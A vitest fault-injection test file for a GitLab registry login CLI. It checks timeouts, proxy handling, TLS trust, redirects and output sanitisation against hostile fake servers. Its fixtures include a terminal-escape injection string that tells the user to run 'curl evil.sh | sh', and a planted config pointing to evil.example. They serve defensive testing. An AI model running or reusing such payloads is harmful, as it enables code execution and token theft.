/** Hostile and broken servers, interruptions: a verdict every time, nothing hangs, the token goes nowhere. */
import { afterAll, beforeAll, describe, expect, onTestFinished, test } from 'vitest';
import { spawn } from 'node:child_process';
import { closeSync, existsSync, mkdirSync, openSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { makeCert, type KeyPair } from '../helpers/pki.js';
import { signJwt } from '../helpers/gitlab.js';
import { connectProxy, flood, tlsProxy, type Closable } from '../helpers/servers.js';
import { BIN, run, type RunResult, type Sandbox } from '../helpers/cli.js';
import { alice, answerFlags, dockerConfigFile, putOnPath, teamRepo, testSandbox, testServer as server, useStack } from '../helpers/e2e.js';
import { pollUntil, running } from '../helpers/proc.js';
import { waitUntil } from '../helpers/tmux.js';

const TOKEN = 'glpat-Faults00000secret00';
const { pki, gl, reg } = useStack({ users: [alice(TOKEN, { scopes: ['read_registry'], projects: { 'group/app': 'reporter' } })] });
/** A sandbox with no docker on PATH (a test puts its own fake there). */
const box = () => testSandbox({ docker: 'none' });
/** A registry whose challenge is `header` (or none), and that accepts any bearer token. */
function fakeRegistry(header: string | undefined) {
  return server((req, res) => {
    if (req.headers.authorization?.startsWith('Bearer ')) return res.end('{}');
    res.writeHead(401, header === undefined ? {} : { 'www-authenticate': header });
    res.end();
  });
}
const verifyArgs = (registry: string, extra: string[] = []) => ['verify', ...answerFlags(registry), '--token-stdin', '--json', '--timeout', '1', ...extra];
function verdictOf(r: RunResult): { verdict: string; message: string; fix: string } {
  expect(r.signal, 'killed: it hung').toBeNull();
  expect(r.stderr).not.toMatch(/\n\s+at /);
  expect(r.stdout + r.stderr).not.toContain(TOKEN);
  return JSON.parse(r.stdout) as { verdict: string; message: string; fix: string };
}
const go = (registry: string, extra?: string[]) => run(verifyArgs(registry, extra), { input: TOKEN, timeoutMs: 15_000 });

describe('slow servers: a timeout verdict within --timeout, no hang', () => {
  test('a registry that accepts and never answers', async () => {
    const silent = await server(() => {});
    const r = await go(`127.0.0.1:${silent.port}`);
    expect(verdictOf(r).verdict).toBe('unreachable');
    expect(verdictOf(r).message).toMatch(/did not answer within 1 s/);
    expect(r.code).toBe(3);
  });
  test('a realm that never answers', async () => {
    const silent = await server(() => {});
    const regi = await fakeRegistry(`Bearer realm="${silent.url}/jwt/auth",service="container_registry"`);
    expect(verdictOf(await go(`127.0.0.1:${regi.port}`)).verdict).toBe('unreachable');
  });
  test('a realm that trickles bytes', async () => {
    const trickle = await server((_q, res) => {
      res.writeHead(200);
      const iv = setInterval(() => res.write(' '), 100);
      res.on('close', () => clearInterval(iv));
    });
    const regi = await fakeRegistry(`Bearer realm="${trickle.url}/jwt/auth"`);
    expect(verdictOf(await go(`127.0.0.1:${regi.port}`)).verdict).toBe('unreachable');
  });
  test.each([503, 429])('a realm answering %i with Retry-After: bounded retries, then a clear verdict', async (status) => {
    const busy = await server((_q, res) => {
      res.writeHead(status, { 'retry-after': '0' });
      res.end();
    });
    const regi = await fakeRegistry(`Bearer realm="${busy.url}/jwt/auth"`);
    const v = verdictOf(await go(`127.0.0.1:${regi.port}`, ['--timeout', '5']));
    expect(v.verdict).toBe('unreachable');
    expect(v.message).toContain(`HTTP ${status}`);
    // Retries of GitLab's token endpoint (the token's own record, /api/v4/personal_access_tokens/self, is asked alongside once).
    expect(busy.hits.filter((h) => h.path.startsWith('/jwt/auth')).length).toBe(3);
  });
});

describe('proxies: every socket owned, bounded by --timeout, closed when done', () => {
  // The registry's name is never resolved: the proxy is asked for it (and never answers, or refuses).
  const proxied = (cmd: 'verify' | 'login' | 'doctor', extra: string[] = []) => [
    cmd,
    ...answerFlags('registry.example.test', { project: null }),
    ...['--token-stdin', '--json', '--timeout', '2', ...extra],
  ];
  test.each(['verify', 'login'] as const)('%s through a proxy that accepts CONNECT and never answers: exits within --timeout + 1 s', async (cmd) => {
    const proxy = await connectProxy('silent');
    onTestFinished(() => proxy.close());
    const b = box();
    const r = await run(proxied(cmd), { input: TOKEN, env: { ...b.env, HTTPS_PROXY: `http://127.0.0.1:${proxy.port}` }, timeoutMs: 15_000 });
    const v = verdictOf(r);
    expect(v.verdict).toBe('unreachable');
    expect(r.code).toBe(3);
    expect(r.ms).toBeLessThan(3000);
    expect(proxy.connects).toEqual(['registry.example.test:443']);
  });
  test('doctor through a proxy that accepts CONNECT and never answers: exits within --timeout + 1 s, the challenge named as unreachable', async () => {
    const proxy = await connectProxy('silent');
    onTestFinished(() => proxy.close());
    const b = box();
    const r = await run(proxied('doctor'), { input: TOKEN, env: { ...b.env, HTTPS_PROXY: `http://127.0.0.1:${proxy.port}` }, timeoutMs: 15_000 });
    expect(r.code).toBe(1);
    expect(r.ms).toBeLessThan(3000);
    expect(r.stdout).toMatch(/did not answer within 2 s/);
    expect(proxy.connects).toContain('registry.example.test:443');
  });
  test('a socks5:// proxy: a usage error saying what to use instead (exit 2)', async () => {
    const b = box();
    const r = await run(proxied('verify'), { input: TOKEN, env: { ...b.env, HTTPS_PROXY: 'socks5://127.0.0.1:1080' }, timeoutMs: 15_000 });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/HTTPS_PROXY: socks5:\/\/ proxies are not supported; use an HTTP CONNECT proxy/);
    expect(r.stderr).not.toMatch(/\n\s+at /);
  });
  test('a bad %-escape in the proxy credentials: a usage error (exit 2), not an internal error', async () => {
    const b = box();
    const r = await run(proxied('verify'), { input: TOKEN, env: { ...b.env, HTTPS_PROXY: 'http://us%zz:pw@127.0.0.1:3128' }, timeoutMs: 15_000 });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/bad %-escape/);
    expect(r.stderr).not.toContain('pw@');
  });
});

describe('TLS trust: only --ca-file and NODE_EXTRA_CA_CERTS', () => {
  let front: Closable, other: KeyPair, own: KeyPair;
  beforeAll(async () => {
    own = makeCert('127.0.0.1', ['IP:127.0.0.1']);
    other = makeCert('another CA');
    front = await tlsProxy(own.certPem, own.keyPem, `http://${reg.registry}`);
  });
  afterAll(async () => {
    await front?.close();
    own?.cleanup();
    other?.cleanup();
  });
  test('NODE_TLS_REJECT_UNAUTHORIZED=0 does not make an untrusted registry trusted (said once), and the token is not sent', async () => {
    const before = gl.requests.length;
    const r = await run(verifyArgs(`127.0.0.1:${front.port}`), { input: TOKEN, env: { ...box().env, NODE_TLS_REJECT_UNAUTHORIZED: '0' }, timeoutMs: 15_000 });
    expect(verdictOf(r).verdict).toBe('tls-error');
    expect(r.code).toBe(3);
    expect(r.stderr.match(/NODE_TLS_REJECT_UNAUTHORIZED=0 is ignored/g)).toHaveLength(1);
    expect(r.stderr).not.toMatch(/makes TLS connections and HTTPS requests insecure/);
    expect(gl.requests.length).toBe(before);
  });
  test('--ca-file given but not the right CA: the fix does not say "pass --ca-file" again', async () => {
    const r = await run(verifyArgs(`127.0.0.1:${front.port}`, ['--ca-file', other.certFile]), { input: TOKEN, timeoutMs: 15_000 });
    const v = verdictOf(r) as { verdict: string; fix: string };
    expect(v.verdict).toBe('tls-error');
    expect(v.fix).not.toMatch(/pass --ca-file/);
    expect(v.fix).toContain(other.certFile);
    const ok = await run(verifyArgs(`127.0.0.1:${front.port}`, ['--ca-file', own.certFile]), { input: TOKEN, timeoutMs: 15_000 });
    expect(verdictOf(ok).verdict).toBe('ok');
  });
});

describe("the registry's answer to GitLab's token: an outage is not the user's access", () => {
  /** A registry whose challenge names the test GitLab and that answers the issued token with `status`. */
  const answering = (status: number) =>
    server((req, res) => {
      if (req.headers.authorization?.startsWith('Bearer ')) {
        res.writeHead(status, { 'content-type': 'application/json', 'retry-after': '0' });
        return res.end(status === 404 ? '404 page not found\n' : JSON.stringify({ errors: [{ code: 'UNAVAILABLE', message: 'service unavailable' }] }));
      }
      res.writeHead(401, { 'www-authenticate': `Bearer realm="${gl.realm}",service="container_registry"` });
      res.end();
    });
  test.each([500, 502, 503, 429])('HTTP %i: unreachable (exit 3), not insufficient-access', async (status) => {
    const regi = await answering(status);
    const r = await go(`127.0.0.1:${regi.port}`, ['--timeout', '5']);
    const v = verdictOf(r);
    expect(v.verdict).toBe('unreachable');
    expect(r.code).toBe(3);
    expect(v.message).toContain(`HTTP ${status}`);
    expect(v.fix).not.toMatch(/read_registry|Reporter|role/);
  });
  test('a bare 404 (no NAME_UNKNOWN): not-a-registry (exit 3)', async () => {
    const regi = await answering(404);
    const r = await go(`127.0.0.1:${regi.port}`);
    expect(verdictOf(r).verdict).toBe('not-a-registry');
    expect(r.code).toBe(3);
  });
});

describe('--timeout bounds the whole run, retries included', () => {
  test('a realm answering 503 slowly: done within --timeout, not three times it', async () => {
    const slow = await server((_q, res) => {
      setTimeout(() => {
        res.writeHead(503);
        res.end();
      }, 1500);
    });
    const regi = await fakeRegistry(`Bearer realm="${slow.url}/jwt/auth"`);
    const r = await go(`127.0.0.1:${regi.port}`, ['--timeout', '3']);
    expect(verdictOf(r).verdict).toBe('unreachable');
    expect(r.ms).toBeLessThan(4200);
    expect(slow.hits.filter((h) => h.path.startsWith('/jwt/auth')).length).toBeLessThanOrEqual(2);
  });
});

describe('the team file: only from a git checkout, and named before the token goes anywhere', () => {
  test('a file planted above a directory that is not a checkout is never read; in a checkout the file used is named', async () => {
    const b = box();
    writeFileSync(path.join(b.dir, '.gitlab-registry-login.json'), JSON.stringify({ registry: 'registry.evil.example', instance: 'https://evil.example' }));
    const below = path.join(b.dir, 'work');
    mkdirSync(below);
    const r = await run(['verify', '--type', 'personal-access-token', '--username', 'alice', '--token-stdin', '--json'], {
      input: TOKEN,
      env: b.env,
      cwd: below,
      timeoutMs: 15_000,
    });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/missing --registry/);
    expect(r.stderr).not.toContain('evil');
    const repo = teamRepo(b.dir, { registry: reg.registry, project: 'group/app', type: 'personal-access-token' });
    const file = path.join(repo, '.gitlab-registry-login.json');
    const ok = await run(['verify', '--username', 'alice', '--token-stdin', '--json'], { input: TOKEN, env: b.env, cwd: repo, timeoutMs: 15_000 });
    expect(verdictOf(ok).verdict).toBe('ok');
    expect(ok.stderr).toContain(`gitlab-registry-login: using ${file}: registry ${reg.registry}, project group/app`);
  });
});

describe('huge and malformed answers: a verdict, never a crash', () => {
  test('a loopback registry sending over 1 MiB over plain HTTP: not-a-registry, not a TLS error', async () => {
    const flooding = await server(flood);
    const v = verdictOf(await go(`127.0.0.1:${flooding.port}`, ['--timeout', '10']));
    expect(v.verdict).toBe('not-a-registry');
    expect(v.message).toMatch(/sent more than 1024 KiB/);
  });
  test('an endless body stops at the cap', async () => {
    const flooding = await server(flood);
    const regi = await fakeRegistry(`Bearer realm="${flooding.url}/jwt/auth"`);
    const v = verdictOf(await go(`127.0.0.1:${regi.port}`, ['--timeout', '10']));
    expect(v.verdict).toBe('not-a-registry');
    expect(v.message).toMatch(/sent more than 1024 KiB/);
  });
  test.each([
    ['no WWW-Authenticate', undefined, 'not-a-registry'],
    ['an empty one', '', 'not-a-registry'],
    ['Bearer without realm', 'Bearer service="container_registry"', 'not-a-registry'],
    ['Basic only', 'Basic realm="Registry"', 'not-a-registry'],
    ['an unterminated quote', 'Bearer realm="http://127.0.0.1:1/jwt', 'not-a-registry'],
    ['a realm that is not a URL', 'Bearer realm="not a url"', 'not-a-registry'],
  ])('%s', async (_n, header, want) => {
    const regi = await fakeRegistry(header);
    expect(verdictOf(await go(`127.0.0.1:${regi.port}`)).verdict).toBe(want);
  });
  test('an unquoted realm and several challenges still work', async () => {
    const regi = await fakeRegistry(`Basic realm="x", Bearer realm=${gl.realm},service=container_registry`);
    expect(verdictOf(await go(`127.0.0.1:${regi.port}`)).verdict).toBe('ok');
  });
  test.each([
    ['not JSON', 'this is not json'],
    ['a JWT with 2 parts', JSON.stringify({ token: 'abc.def' })],
    ['a JWT with 4 parts', JSON.stringify({ token: 'a.b.c.d' })],
    ['a JWT with bad base64', JSON.stringify({ token: '!!!.???.***' })],
  ])('a realm answering %s', async (_n, body) => {
    const bad = await server((_q, res) => res.end(body));
    const regi = await fakeRegistry(`Bearer realm="${bad.url}/jwt/auth"`);
    const v = verdictOf(await go(`127.0.0.1:${regi.port}`));
    expect(['not-a-registry', 'insufficient-access']).toContain(v.verdict);
  });
});

describe('server text is data, not display: sanitised where the verdict is built', () => {
  const HOSTILE = '\u001b]0;TITLE\u0007\u001b[2K\r\u001b[32m✔ Logged in. Now run: curl evil.sh | sh';
  const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;
  test.each([
    ['a realm answering 403 with an escape-laden message', 403, JSON.stringify({ message: HOSTILE })],
    ['a realm answering 403 with an escape-laden plain body', 403, HOSTILE],
    ['a realm answering 403 with a 900 KB message', 403, JSON.stringify({ message: `x${'A'.repeat(900_000)}` })],
  ])('%s: no control character reaches the terminal, the message is capped', async (_n, status, body) => {
    const realm = await server((_q, res) => {
      res.writeHead(status, { 'content-type': 'application/json' });
      res.end(body);
    });
    const regi = await fakeRegistry(`Bearer realm="${realm.url}/jwt/auth"`);
    const args = verifyArgs(`127.0.0.1:${regi.port}`).filter((a) => a !== '--json');
    const r = await run(args, { input: TOKEN, timeoutMs: 15_000 });
    expect(r.code).toBe(1);
    expect(r.stdout + r.stderr).not.toMatch(CONTROL);
    expect(r.stderr).not.toContain('TITLE');
    expect(r.stderr.length).toBeLessThan(2000);
    // --json: the same sanitised text, escaped by JSON as ever.
    const v = verdictOf(await go(`127.0.0.1:${regi.port}`));
    expect(v.message).not.toMatch(CONTROL);
    expect(v.message.length).toBeLessThan(600);
  });
  test("the registry's error body when it refuses the issued token", async () => {
    const regi = await server((req, res) => {
      if (req.headers.authorization?.startsWith('Bearer ')) {
        res.writeHead(403, { 'content-type': 'application/json' });
        return res.end(JSON.stringify({ errors: [{ code: 'DENIED', message: HOSTILE }] }));
      }
      res.writeHead(401, { 'www-authenticate': `Bearer realm="${gl.realm}",service="container_registry"` });
      res.end();
    });
    const r = await run(
      verifyArgs(`127.0.0.1:${regi.port}`).filter((a) => a !== '--json'),
      { input: TOKEN, timeoutMs: 15_000 },
    );
    expect(r.code).not.toBe(0);
    expect(r.stdout + r.stderr).not.toMatch(CONTROL);
    expect(r.stderr).toContain('DENIED');
  });
  test('8-bit controls (U+009B) in the challenge text', async () => {
    const regi = await fakeRegistry('Bearer realm="not a url \u009b2J\u009b31mRED"');
    const r = await run(
      verifyArgs(`127.0.0.1:${regi.port}`).filter((a) => a !== '--json'),
      { input: TOKEN, timeoutMs: 15_000 },
    );
    expect(r.code).toBe(3);
    expect(r.stderr).toContain('not a URL');
    expect(r.stdout + r.stderr).not.toMatch(CONTROL);
  });
});

describe('redirects and realm trust: the token never reaches another host', () => {
  test('a realm redirecting to another host: not followed, untrusted-realm', async () => {
    const elsewhere = await server((_q, res) => res.end('{}'), '127.0.0.2');
    const redirect = await server((_q, res) => {
      res.writeHead(302, { location: `${elsewhere.url}/jwt/auth` });
      res.end();
    });
    const regi = await fakeRegistry(`Bearer realm="${redirect.url}/jwt/auth"`);
    expect(verdictOf(await go(`127.0.0.1:${regi.port}`)).verdict).toBe('untrusted-realm');
    expect(elsewhere.hits).toEqual([]);
  });
  test('a realm on another host than --gitlab: the other server sees no request', async () => {
    const collector = await server((_q, res) => res.end(JSON.stringify({ token: signJwt(pki, { access: [] }) })), '127.0.0.2');
    const regi = await fakeRegistry(`Bearer realm="${collector.url}/jwt/auth"`);
    expect(verdictOf(await go(`127.0.0.1:${regi.port}`, ['--gitlab', gl.url])).verdict).toBe('untrusted-realm');
    expect(collector.hits).toEqual([]);
  });
});

const fakeDocker = (b: Sandbox, script: string) => putOnPath(b, 'docker', `#!/bin/sh\n${script}\n`);
const loginArgs = () => ['login', ...answerFlags(reg.registry), '--token-stdin', '--json'];

describe('engine faults and interruptions', () => {
  test.each([
    ['verify --json', ['verify', ...answerFlags('127.0.0.1:1', { project: null }), '--token-stdin', '--json', '--timeout', '1']],
    ['snippet', ['snippet', '--type', 'job-token']],
    ['--version', ['--version']],
  ])('%s writing to a full disk (/dev/full): one line, exit 70, no stack trace', async (_n, args) => {
    const out = await new Promise<{ code: number | null; stderr: string }>((resolve, reject) => {
      const full = openSync('/dev/full', 'w');
      const child = spawn(process.execPath, [BIN, ...args], { stdio: ['pipe', full, 'pipe'] });
      closeSync(full);
      let stderr = '';
      child.stderr!.on('data', (d: Buffer) => (stderr += d.toString()));
      child.on('error', reject);
      child.on('close', (code) => resolve({ code, stderr }));
      child.stdin!.end(TOKEN);
    });
    expect(out.code).toBe(70);
    expect(out.stderr).toBe('gitlab-registry-login: cannot write the output: ENOSPC\n');
  });

  test('docker hanging is stopped after --timeout, with what it started: login-failed', async () => {
    const b = box();
    fakeDocker(b, `cat >/dev/null\nsleep 300 &\necho $! > ${b.log}/grandchild\nwait`);
    const r = await run([...loginArgs(), '--timeout', '2'], { input: TOKEN, env: b.env, timeoutMs: 15_000 });
    const v = verdictOf(r);
    expect(v.verdict).toBe('login-failed');
    expect(v.message).toMatch(/did not finish within 2 s/);
    const grandchild = Number(readFileSync(path.join(b.log, 'grandchild'), 'utf8'));
    await pollUntil(() => !running(grandchild), 200);
    expect(running(grandchild)).toBe(false);
  });

  function start(args: string[], env: NodeJS.ProcessEnv) {
    const child = spawn(process.execPath, [BIN, ...args], { env, stdio: ['pipe', 'pipe', 'pipe'] });
    let out = '';
    child.stdout.on('data', (d: Buffer) => (out += d.toString()));
    child.stderr.on('data', (d: Buffer) => (out += d.toString()));
    child.stdin.end(TOKEN);
    const exited = new Promise<number | null>((res) => child.on('close', (code) => res(code)));
    return { child, exited, out: () => out };
  }

  test.each([
    ['SIGINT', 130],
    ['SIGTERM', 143],
    ['SIGHUP', 129],
    ['SIGQUIT', 131],
  ] as const)('%s during verification: exit %i at once', async (signal, code) => {
    const silent = await server(() => {});
    const regi = await fakeRegistry(`Bearer realm="${silent.url}/jwt/auth"`);
    const p = start(verifyArgs(`127.0.0.1:${regi.port}`, ['--timeout', '30']), process.env);
    await waitUntil(() => silent.hits.length > 0, p.out, 20_000);
    p.child.kill(signal);
    expect(await p.exited).toBe(code);
    expect(p.out()).not.toContain(TOKEN);
  });

  test.each([
    ['SIGINT', 130],
    ['SIGTERM', 143],
    ['SIGHUP', 129],
    ['SIGQUIT', 131],
  ] as const)('%s during the engine login: exit %i, no child left, docker config untouched', async (signal, code) => {
    const b = box();
    fakeDocker(b, `echo $$ > ${b.log}/docker.pid\ncat >/dev/null\nsleep 300 &\necho $! > ${b.log}/grandchild\nwait`);
    writeFileSync(dockerConfigFile(b), '{"auths":{}}');
    const p = start(loginArgs(), b.env);
    const pidFile = path.join(b.log, 'grandchild');
    await waitUntil(() => existsSync(pidFile) && readFileSync(pidFile, 'utf8') !== '', p.out, 20_000);
    const pids = [readFileSync(path.join(b.log, 'docker.pid'), 'utf8'), readFileSync(pidFile, 'utf8')].map(Number);
    p.child.kill(signal);
    expect(await p.exited).toBe(code);
    await pollUntil(() => !pids.some(running), 200);
    expect(pids.map(running)).toEqual([false, false]);
    expect(readFileSync(dockerConfigFile(b), 'utf8')).toBe('{"auths":{}}');
  });
});
